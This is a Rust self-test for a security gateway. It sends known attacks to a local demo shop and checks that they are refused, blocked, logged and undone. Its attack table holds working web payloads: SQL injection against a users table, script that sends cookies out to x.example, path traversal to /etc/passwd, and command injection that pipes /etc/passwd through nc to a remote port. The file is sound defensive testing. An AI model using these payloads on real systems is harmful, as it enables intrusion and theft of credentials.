//! The self-test: known attacks, harmless here, through the real gateway, engine, detectors and log, on a folder of its own that is removed.
//!
//! A probe is a request or a few lines and what has to come of it. Its application is the demo's shop on loopback; nothing leaves the machine.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use crate::cli::fail::Fail;
use crate::knowledge::Content;
use crate::service::{GatewayWanted, Operation, Service, Wanted};
use crate::{clock, demo, feed};

/// What came of one probe.
pub struct Proof {
    pub what: &'static str,
    pub held: bool,
    /// In words: what was found, or what was missed.
    pub text: String,
    pub took: Duration,
}

/// For a finding to reach the log.
const PATIENCE: Duration = Duration::from_secs(10);
/// Documentation addresses (RFC 5737): nobody's.
const ATTACKER: &str = "203.0.113.250";
const GUESSER: &str = "198.51.100.250";

/// Target, and the word that an incident about it has in its title or analytic.
const ATTACKS: &[(&str, &str)] = &[
    ("SQL injection", "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20"),
    ("script injection", "/search?q=%3Cscript%3Efetch(%27//x.example/%27%2Bdocument.cookie)%3C/script%3E"),
    ("path traversal", "/product/..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("command injection", "/search?q=x%3Bcat%20/etc/passwd%7Cnc%20192.0.2.1%204444"),
];

/// Runs every probe; `Err` when the test itself could not run.
pub fn run(content_dir: Option<PathBuf>) -> Result<Vec<Proof>, Fail> {
    let dir = std::env::temp_dir().join(format!("bartizan-selftest-{}-{}", std::process::id(), clock::now().us()));
    let folder = Folder(dir.clone());
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .map_err(|e| Fail::new("E0605", format!("cannot start the runtime: {e}")))?;
    let shop = runtime.block_on(demo::shop::open()).map_err(|e| Fail::new("E0202", format!("the application cannot listen: {e}")))?;
    let service = start(content_dir, dir, shop)?;
    let Some(gateway) = service.gateway_addr else { return Err(Fail::new("E0202", "the gateway has no address")) };
    let mut proofs = vec![passes(gateway)];
    proofs.extend(ATTACKS.iter().map(|(what, target)| refused(gateway, what, target)));
    proofs.push(blocked(gateway));
    proofs.push(guessed(&service)?);
    proofs.push(recorded(&service));
    proofs.push(undone(&service, gateway));
    let _ = service.stop();
    runtime.shutdown_background();
    drop(folder);
    Ok(proofs)
}

fn start(content_dir: Option<PathBuf>, data_dir: PathBuf, shop: SocketAddr) -> Result<Service, Fail> {
    let content = Content::load(content_dir.as_deref())?;
    let (knowledge, said) = content.knowledge()?;
    said.iter().for_each(crate::cli::out::note);
    let upstream = format!("http://{shop}").parse().map_err(|e: gateway::UpstreamError| Fail::new("E0101", e.to_string()))?;
    let mut config = gateway::Config::new(SocketAddr::from(([127, 0, 0, 1], 0)), upstream);
    config.site = "selftest".into();
    config.workers = 1;
    config.trusted_proxies.extend("127.0.0.0/8".parse::<ipnet::IpNet>());
    Service::start(Wanted {
        channels: None,
        operation: Operation::default(),
        data_dir,
        demo: false,
        enforce: true,
        console: None,
        gateway: Some(GatewayWanted { config, inspect: true, logins: Vec::new(), ndjson: None, drift_every: Duration::from_secs(3_600) }),
        never: incident::Never::default(),
        nftables: None,
        models: Vec::new(),
        knowledge,
        forecaster: None,
        content: content_dir,
    })
}

/// Removed with everything in it.
struct Folder(PathBuf);

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn proof(what: &'static str, held: bool, text: impl Into<String>, start: Instant) -> Proof {
    Proof { what, held, text: text.into(), took: start.elapsed() }
}

/// Status of the answer; `None` when there is none.
fn ask(gateway: SocketAddr, from: &str, target: &str) -> Option<u16> {
    let mut stream = TcpStream::connect_timeout(&gateway, Duration::from_secs(5)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(10))).ok()?;
    write!(
        stream,
        "GET {target} HTTP/1.1\r\nhost: selftest.example\r\nuser-agent: Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0\r\n\
         x-forwarded-for: {from}\r\nconnection: close\r\n\r\n"
    )
    .ok()?;
    let mut text = Vec::new();
    let _ = stream.read_to_end(&mut text);
    String::from_utf8_lossy(&text).split(' ').nth(1)?.parse().ok()
}

fn until(mut done: impl FnMut() -> bool) -> bool {
    let start = Instant::now();
    while start.elapsed() < PATIENCE {
        if done() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    false
}

fn answered(status: Option<u16>) -> String {
    status.map_or_else(|| "no answer".into(), |status| format!("answered {status}"))
}

fn passes(gateway: SocketAddr) -> Proof {
    let start = Instant::now();
    let status = ask(gateway, "192.0.2.10", "/search?q=oak+bucket");
    proof("a visitor passes", status == Some(200), answered(status), start)
}

/// Each from an address of its own, so that the block of one does not answer for the next.
fn refused(gateway: SocketAddr, what: &'static str, target: &str) -> Proof {
    let start = Instant::now();
    let from = format!("203.0.113.{}", 1 + what.len());
    let status = ask(gateway, &from, target);
    proof(what, status == Some(403), answered(status), start)
}

fn blocked(gateway: SocketAddr) -> Proof {
    let start = Instant::now();
    let refused = ask(gateway, ATTACKER, ATTACKS[0].1) == Some(403);
    let held = refused && until(|| ask(gateway, ATTACKER, "/") == Some(403));
    proof("who attacks is blocked", held, if held { "its next harmless request is refused" } else { "its next request passed" }, start)
}

/// Guesses at a password, until one is right.
fn guessed(service: &Service) -> Result<Proof, Fail> {
    let start = Instant::now();
    let stamp = clock::now().plus_s(-120).to_string();
    let at = |second: usize| format!("{}{:02}", &stamp[..17], second % 60);
    let line =
        |n: usize, word: &str| format!("{}Z probe sshd[4242]: {word} password for root from {GUESSER} port {} ssh2", at(n), 40_000 + n);
    let mut lines: Vec<String> = (0..40).map(|n| line(n, "Failed")).collect();
    lines.push(line(41, "Accepted"));
    feed::lines(service, "selftest: auth.log", &lines)?;
    let mut title = String::new();
    let held = until(|| {
        let all = service.log.incidents(&store::IncidentFilter { limit: usize::MAX, ..Default::default() });
        let found = all.iter().find(|i| i.entities.iter().any(|e| e.name == GUESSER));
        found.inspect(|i| title.clone_from(&i.title)).is_some()
    });
    Ok(proof("guessed passwords", held, if held { title } else { "no incident".into() }, start))
}

fn recorded(service: &Service) -> Proof {
    let start = Instant::now();
    let count = || service.log.incidents(&store::IncidentFilter { limit: usize::MAX, ..Default::default() }).len();
    let held = until(|| count() > ATTACKS.len());
    proof("incidents are kept", held, format!("{} in the log", count()), start)
}

fn undone(service: &Service, gateway: SocketAddr) -> Proof {
    let start = Instant::now();
    let found = service.log.responses().iter().find(|r| r.target.name.contains(ATTACKER)).map(|r| r.incident.clone());
    let Some(target) = found else { return proof("undo", false, "nothing was blocked", start) };
    let (send, receive) = tokio::sync::oneshot::channel();
    let order = crate::engine::Input::Order(event::order::What::Undo { target }, "selftest".into(), send);
    let answer = service.engine().send(order).ok().and_then(|()| receive.blocking_recv().ok());
    let status = ask(gateway, ATTACKER, "/");
    let held = answer.is_some_and(|a| a.fault.is_none()) && status == Some(200);
    proof("undo", held, format!("the next request of the blocked one is {}", answered(status)), start)
}
